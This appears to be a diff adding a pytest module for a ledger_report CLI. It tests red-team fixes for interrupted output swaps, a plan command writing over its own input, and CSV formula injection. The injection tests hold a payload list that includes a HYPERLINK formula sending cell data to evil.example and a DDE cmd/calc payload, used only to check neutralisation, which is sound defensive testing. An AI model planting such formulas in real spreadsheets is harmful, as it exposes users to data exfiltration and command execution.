@@ -1,0 +1,202 @@
+"""The red-team pass's output faults: `plan INPUT -o DIR` writing over INPUT when it is DIR/plans.csv; a
+signal while the outputs are swapped in leaving a mixed set and losing the earlier copy; and
+formula text in plans.csv (OWASP "CSV Injection")."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import signal
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from ledger_report.cli import main
+from ledger_report.render import output
+from ledger_report.render.output import csv_bytes, csv_text, write_outputs
+from ledger_report.render.plans import plans_csv
+from ledger_report.render.template import template_csv
+
+ROOT = Path(__file__).resolve().parents[2]
+OLD = {"r.xlsx": b"PK old workbook", "r.pdf": b"%PDF old handout", "r.json": b'{"old": 1}\n'}
+NEW = {"r.xlsx": b"PK new workbook", "r.pdf": b"%PDF new handout", "r.json": b'{"new": 1}\n'}
+
+
+def _earlier(folder: Path) -> None:
+    folder.mkdir(exist_ok=True)
+    for name, data in OLD.items():
+        (folder / name).write_bytes(data)
+
+
+def _contents(folder: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}
+
+
+# ---- a signal while the outputs are swapped in --------------------------------------------------
+@pytest.fixture
+def sigterm_raises():
+    """SIGTERM handled as the CLI handles it (as Ctrl-C: KeyboardInterrupt), for this test only."""
+
+    def handler(signum, frame):
+        raise KeyboardInterrupt
+
+    old = signal.signal(signal.SIGTERM, handler)
+    yield
+    signal.signal(signal.SIGTERM, old)
+
+
+@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
+@pytest.mark.parametrize("step", ["link", "replace-1", "replace-2", "replace-3"])
+def test_a_signal_while_swapping_puts_every_earlier_file_back(
+    tmp_path, monkeypatch, sigterm_raises, signum, step
+):
+    """Found in a red-team pass: Ctrl-C while the outputs were renamed into place left a mixed set (a target was
+    recorded as replaced only after os.replace returned, so the one replaced when the signal came
+    was never put back) and deleted its backup.  The signal is sent from inside the step named
+    (the backup of the first target, or the k-th replace, after it is done): every earlier file
+    is back, byte for byte, no temp or backup is left, and the interruption still ends the call."""
+    out = tmp_path / "out"
+    _earlier(out)
+    calls = {"link": 0, "replace": 0}
+    real_link, real_replace = os.link, os.replace
+    kind, _, nth = step.partition("-")
+    nth = int(nth or 1)
+
+    def spy(name, real):
+        def call(*a, **k):
+            result = real(*a, **k)
+            calls[name] += 1
+            if name == kind and calls[name] == nth:
+                os.kill(os.getpid(), signum)
+            return result
+
+        return call
+
+    monkeypatch.setattr(output.os, "link", spy("link", real_link))
+    monkeypatch.setattr(output.os, "replace", spy("replace", real_replace))
+    with pytest.raises(KeyboardInterrupt):
+        write_outputs({out / n: d for n, d in NEW.items()}, inputs=())
+    assert _contents(out) == OLD
+
+
+def test_a_signal_while_swapping_new_files_leaves_none(tmp_path, monkeypatch):
+    """The same with no earlier files: the files already moved in are removed again."""
+    out = tmp_path / "out"
+    out.mkdir()
+    real_replace = os.replace
+    done = []
+
+    def replace(*a, **k):
+        real_replace(*a, **k)
+        done.append(a)
+        if len(done) == 2:
+            os.kill(os.getpid(), signal.SIGINT)
+
+    monkeypatch.setattr(output.os, "replace", replace)
+    with pytest.raises(KeyboardInterrupt):
+        write_outputs({out / n: d for n, d in NEW.items()}, inputs=())
+    assert _contents(out) == {}
+
+
+# ---- plan -o over its own input -----------------------------------------------------------------
+PLAN_ROW = {
+    # docs/scenarios.md's Qwen3-8B job, its layout fixed but for dp and micro_batch (a small search)
+    "name": "qwen3-8b",
+    "layers": 36,
+    "hidden": 4096,
+    "heads": 32,
+    "kv_heads": 8,
+    "head_dim": 128,
+    "ffn_hidden": 12288,
+    "vocab": 151936,
+    "qk_norm": "true",
+    "seq_len": 8192,
+    "global_batch": 384,
+    "tokens": "100B",
+    "days": 30,
+    "gpu": "H100-SXM",
+    "tp": 1,
+    "pp": 1,
+    "cp": 1,
+    "zero": 3,
+    "recompute": "full",
+    "loss_chunks": 1,
+    "master_at": "hbm",
+    "optimizer_at": "hbm",
+}
+
+
+@pytest.mark.slow  # a plan search in a subprocess-free CLI run: a few seconds
+def test_plan_out_refuses_to_write_over_its_input(tmp_path):
+    """Found in a red-team pass: `plan DIR/plans.csv -o DIR` overwrote its own input (the CLI called the writer
+    without the inputs).  Now it exits 1 naming the file, and the input is byte-identical."""
+    src = tmp_path / "plans.csv"
+    src.write_text(
+        ",".join(PLAN_ROW) + "\n" + ",".join(str(v) for v in PLAN_ROW.values()) + "\n",
+        encoding="utf-8",
+    )
+    before = src.read_bytes()
+    r = CliRunner().invoke(main, ["plan", str(src), "-o", str(tmp_path), "-q", "-j", "1"])
+    assert r.exit_code == 1, r.output
+    assert "is the input file" in r.output and "plans.csv" in r.output
+    assert "Traceback" not in r.output
+    assert src.read_bytes() == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["plans.csv"]
+
+
+def test_every_writer_names_its_inputs():
+    """The writer takes no default for ``inputs``: a caller that forgets them (as `plan -o` did)
+    fails at once rather than writing over an input."""
+    with pytest.raises(TypeError, match="inputs"):
+        write_outputs({})  # type: ignore[call-arg]
+
+
+# ---- formula text in CSV ------------------------------------------------------------------------
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_plans_csv_neutralises_formula_text():
+    """OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): a field starting
+    with = + - @ tab or CR gets a leading apostrophe; LibreOffice opened such names in plans.csv
+    as live formulas (found in a red-team pass).  Numbers (a negative one too) stay numbers; other text as it was."""
+    rows = [{"name": p, "notes": p, "tokens": -5, "gpu": "H100-SXM"} for p in PAYLOADS]
+    parsed = list(
+        csv.DictReader(io.StringIO(plans_csv({"plans": [{"row": r} for r in rows]}).decode()))
+    )
+    assert [r["name"] for r in parsed] == ["'" + p for p in PAYLOADS]
+    assert [r["notes"] for r in parsed] == ["'" + p for p in PAYLOADS]
+    assert {r["tokens"] for r in parsed} == {"-5"} and {r["gpu"] for r in parsed} == {"H100-SXM"}
+
+
+def test_owasp_worked_example_bytes():
+    """OWASP's worked example: =1+2";=1+2 is written "'=1+2"";=1+2" (apostrophe, quotes doubled,
+    the whole field quoted, so the ; cannot start a new cell)."""
+    assert csv_bytes(["name"], [{"name": '=1+2";=1+2'}]) == b'name\r\n"\'=1+2"";=1+2"\r\n'
+    assert csv_text("a=b") == "a=b" and csv_text(True) == "true" and csv_text(-1.5) == -1.5
+
+
+def test_every_csv_the_tool_writes_goes_through_the_one_writer():
+    """No CSV writer of its own anywhere in the package: plans.csv and the CSV template both come
+    from output.csv_bytes (the template's example row is read back unchanged)."""
+    package = ROOT / "ledger_report"
+    own = [
+        str(p.relative_to(ROOT))
+        for p in package.rglob("*.py")
+        if p.name != "output.py"
+        and any(w in p.read_text(encoding="utf-8") for w in ("csv.writer", "csv.DictWriter"))
+    ]
+    assert own == []
+    from ledger_report.render.workbook import EXAMPLE_ROW
+
+    (row,) = csv.DictReader(io.StringIO(template_csv().decode()))
+    assert row["name"] == EXAMPLE_ROW["name"]
